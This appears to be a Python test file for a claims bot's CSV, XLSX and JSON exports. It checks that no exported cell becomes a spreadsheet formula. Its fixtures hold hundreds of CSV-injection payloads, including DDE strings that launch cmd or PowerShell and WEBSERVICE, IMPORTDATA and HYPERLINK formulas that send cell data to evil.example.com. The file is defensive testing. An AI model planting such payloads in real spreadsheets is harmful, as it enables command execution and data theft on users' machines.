"""Exports: no cell is a formula, in CSV and XLSX; JSON holds what was said, as it was."""

from __future__ import annotations

import csv
import io
import json
import unicodedata
from collections.abc import AsyncIterator
from itertools import product
from typing import Any

from aiohttp import ClientSession, web
from aiohttp.test_utils import TestServer
from openpyxl import load_workbook

from bot.claims.export import write_csv
from bot.desk import Desk
from bot.desk.tables import send_table
from bot.inert import inert
from tests.desk.helpers import Wish, filed

HOSTILE = (
    '=HYPERLINK("http://evil.example.com","x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "＝1+1",
    "=cmd|' /C calc'!A0", '"=1+1', "a,b\n=1+1", "\u0000\u0008=1", "x" * 500,
)  # fmt: skip


async def test_no_cell_becomes_a_formula(members: Any, desk: Desk) -> None:
    numbers = [
        (await filed(desk, Wish(name=text, address=text, photos=False))).number for text in HOSTILE
    ]
    lead = await members("Lea", "lead")
    answer = await lead.get("/desk/claims.csv")
    assert 'filename="claims.csv"' in answer.headers["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(answer.raw.decode(), newline="")))
    book = load_workbook(io.BytesIO((await lead.get("/desk/claims.xlsx?state=submitted")).raw))
    cells = [list(row) for row in book.active.iter_rows()]
    assert len(rows) == len(cells) == len(numbers) + 1
    assert {row[0] for row in rows[1:]} == set(numbers)
    # The same columns and rows in each form, and from the command line.
    as_json = json.loads((await lead.get("/desk/claims.json?state=draft")).raw)
    assert as_json == []
    as_json = json.loads((await lead.get("/desk/claims.json")).raw)
    assert [[inert(cell) for cell in row.values()] for row in as_json] == rows[1:]
    assert [list(row) for row in as_json] == [rows[0]] * len(numbers)
    stored = {claim.number: claim for claim in await desk.claims.listed()}
    for row in as_json:
        claim = stored[row["number"]]
        assert (row["name"], row["address"]) == (claim.details["name"], claim.details["address"])
    command = io.StringIO(newline="")
    write_csv(sorted(await desk.claims.listed(), key=lambda claim: claim.number), command)
    assert list(csv.reader(io.StringIO(command.getvalue(), newline=""))) == rows
    for row in rows[1:]:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝")) for cell in row)
    for row in cells:
        assert {cell.data_type for cell in row} <= {"s", "inlineStr", "n"}
        assert all(cell.value is None for cell in row if cell.data_type == "n")
    assert (await lead.get("/desk/claims.pdf")).status == 404
    assert (await lead.get("/desk/claims.csv?state=nonsense")).status == 404
    entries = await desk.audit.latest(desk.database, actor="lea")
    assert [e.details for e in entries if e.action == "claims exported"] == [
        {"form": "json", "state": ""}, {"form": "json", "state": "draft"},
        {"form": "xlsx", "state": "submitted"}, {"form": "csv", "state": ""},
    ]  # fmt: skip


# How a cell begins that a spreadsheet may run, by itself or behind what it may leave out ...
BEGINNINGS = (
    "=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "\t=", "\r\n=", "\n@", " =",
    "   +", "\u00a0=", "\u3000@", "\u200b=", "\u2060-", "\ufeff=", "\u200e+", "\0=", "\x08=",
    "\x1b@", "\x85=", "\u2028=", "==", "+-", "=+",
)  # fmt: skip
# ... and how it goes on.
FORMS = (
    "1+1", "A1", "SUM(A1:A9)", "cmd|' /C calc'!A0", "cmd|'/k powershell'!A1",
    "MSEXCEL|'\\..\\x'!''",
    'HYPERLINK("https://evil.example.com/?x="&A1,"Click")', 'DDE("cmd";"/C calc";"x")',
    'WEBSERVICE("https://evil.example.com/"&A1)', 'IMPORTXML("https://evil.example.com","//a")',
    'IMPORTDATA(CONCAT("https://evil.example.com/",A1))', "'file:///etc/passwd'#$x.A1",
    'EXEC("calc")', '1+1","=1+1', "1+1\n=1+1", "1+1\r\n@A1", "1+1;=1+1", "1 555 0100", "Jane",
    "<script>1</script>",
)  # fmt: skip
CELLS = ["".join(parts) for parts in product(BEGINNINGS, FORMS)]


def runs(cell: str) -> bool:
    """Could a spreadsheet take it for a formula? Whatever is not seen in front is left out."""
    plain = unicodedata.normalize("NFKC", cell)
    seen = [c for c in plain if unicodedata.category(c)[0] not in "CZ"]
    return "".join(seen).startswith(("=", "+", "-", "@")) or cell.startswith(("\t", "\r", "\n"))


async def test_of_hundreds_of_hostile_cells_none_is_a_formula() -> None:
    assert len(set(CELLS)) >= 500
    assert all(runs(cell) for cell in CELLS)

    async def table(request: web.Request) -> web.StreamResponse:
        async def batches() -> AsyncIterator[list[str]]:
            for first in range(0, len(CELLS), 100):
                yield CELLS[first : first + 100]

        columns = (("told", str), ("again", str), ("plain", lambda _: "Jane"))
        form = request.match_info["form"]
        return await send_table(request, form, "hostile", columns, batches())

    app = web.Application()
    app.router.add_get("/{form}", table)
    got: dict[str, bytes] = {}
    async with TestServer(app) as server, ClientSession(server.make_url("/")) as client:
        for form in ("csv", "xlsx", "json"):
            got[form] = await (await client.get(f"/{form}")).read()
    rows = list(csv.reader(io.StringIO(got["csv"].decode(), newline="")))[1:]
    # One row each: no cell has begun another one. What was said is still there.
    assert rows == [["'" + cell.replace("\0", "")] * 2 + ["Jane"] for cell in CELLS]
    assert not [cell for row in rows for cell in row if runs(cell)]
    sheet = list(load_workbook(io.BytesIO(got["xlsx"])).active.iter_rows(min_row=2))
    assert len(sheet) == len(CELLS)
    for row in sheet:
        assert [cell.data_type for cell in row] == ["s"] * 3
        assert not [cell.value for cell in row if runs(str(cell.value))]
    # No spreadsheet runs JSON: it holds what was said.
    assert [row["told"] for row in json.loads(got["json"])] == CELLS
